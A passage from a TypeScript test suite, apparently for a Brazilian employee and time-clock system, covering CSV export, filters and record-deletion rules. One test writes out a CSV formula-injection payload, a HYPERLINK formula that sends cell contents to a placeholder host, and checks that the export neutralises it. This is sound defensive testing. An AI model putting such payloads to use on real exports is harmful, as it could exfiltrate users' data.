      expect(linha).toHaveLength(funcionarioApi.COLUNAS_CSV_FUNCIONARIOS.length);
      const f = b.funcionario;
      const br = (d: string | null) => (d ? d.split('-').reverse().join('/') : '');
      expect(linha).toEqual([
        f.nome,
        f.pis ?? '',
        f.cpf,
        f.cracha,
        f.registro,
        br(f.dataAdmissao),
        expect.any(String),
        b.centroCusto.codigo,
        // The PIN leaves only towards the clock (decision 0065): the column is there, empty.
        '',
        br(f.dataNascimento),
        f.email ?? '',
      ]);
    });

    it('FILTRO_TELA segue ativo, centro de custo e texto; funcionários escolhidos; erros no ik-response', async () => {
      const turnoB = await exportar({
        opcaoExportar: 'FILTRO_TELA',
        ativo: true,
        idsCentrosCustos: [ids.cc.get('Turno B')],
      });
      const esperado = (await listar({ idsCentrosCustos: [ids.cc.get('Turno B')], qtdLinhas: 1 })).body.qdtFuncionarios;
      // The header, then the employees.
      expect(turnoB.res.rawPayload.toString('latin1').split('\r\n').filter(Boolean)).toHaveLength(esperado + 1);
      const um = await exportar({ opcaoExportar: 'FILTRO_TELA', crachaNome: DEMO_FUNCIONARIOS.comHistorico });
      expect(um.res.rawPayload.toString('latin1').split('\r\n').filter(Boolean)).toHaveLength(2);
      const alvo = (await listar({ crachaNome: DEMO_FUNCIONARIOS.semPis })).body.funcionarios[0];
      const escolhido = await exportar({ opcaoExportar: 'FILTRO_TELA', funcionarios: [{ id: alvo.id }] });
      expect(escolhido.res.rawPayload.toString('latin1')).toMatch(new RegExp(`\r\n${DEMO_FUNCIONARIOS.semPis};;`));
      const semEmpresa = await post('/api/funcionario/exportar-csv', { opcaoExportar: 'TODOS' });
      expect(semEmpresa.status).toBe(400);
      expect(decodeIkResponse(String(semEmpresa.res.headers['ik-response']))).toEqual({
        status: 'ERRO',
        mensagem: expect.stringContaining(M.selecioneEmpresa),
      });
      expect((await exportar({}, beta)).status).toBe(404);
    });

    it('um nome ou registro que parece fórmula sai como texto (apóstrofo antes), nunca como fórmula', async () => {
      const nome = '=HYPERLINK("http://x.test/?"&A1;"Clique")';
      const r = await salvar({ nome, registro: '@SUM(A1)' });
      expect(r.status, JSON.stringify(r.body)).toBe(200);
      const { cracha } = (await buscar(r.body.id)).funcionario;
      const csv = await exportar({ opcaoExportar: 'FILTRO_TELA', funcionarios: [{ id: r.body.id }] });
      const [, linha] = csv.res.rawPayload.toString('latin1').split('\r\n');
      expect(linha!.startsWith(`"'=HYPERLINK(""http://x.test/?""&A1;""Clique"")";`)).toBe(true);
      expect(linha).toContain(`;${cracha};'@SUM(A1);`);
    });
  });

  describe('outros cadastros', () => {
    it('centro de custo com funcionários não é excluído (mensagem com a quantidade)', async () => {
      const r = await post('/api/centro-custo/excluir', { centroCusto: { id: ids.cc.get('Inspeção Final') } });
      expect(r.status).toBe(409);
      expect(r.body.mensagem).toContain(M.centroCustoComFuncionarios(2));
    });

    it('cargo no histórico de funcionários não é excluído (mensagem clara)', async () => {
      const r = await post('/api/cargo/excluir', { cargo: { id: refs.cargos.get('Recepcionista') } });
      expect(r.status).toBe(409);
      expect(r.body.mensagem).toContain(M.cargoEmUso);
    });

    it('o histórico fica com uma só escala aberta por funcionário', async () => {
      const abertas = await env.database.owner
        .select({ f: funcionarioEscalas.funcionarioId })
        .from(funcionarioEscalas)
        .innerJoin(funcionarios, eq(funcionarios.id, funcionarioEscalas.funcionarioId))
        .where(and(eq(funcionarios.tenantId, ids.demo), isNull(funcionarioEscalas.dataFinal)));
      expect(new Set(abertas.map((a) => a.f)).size).toBe(abertas.length);
    });
  });
});
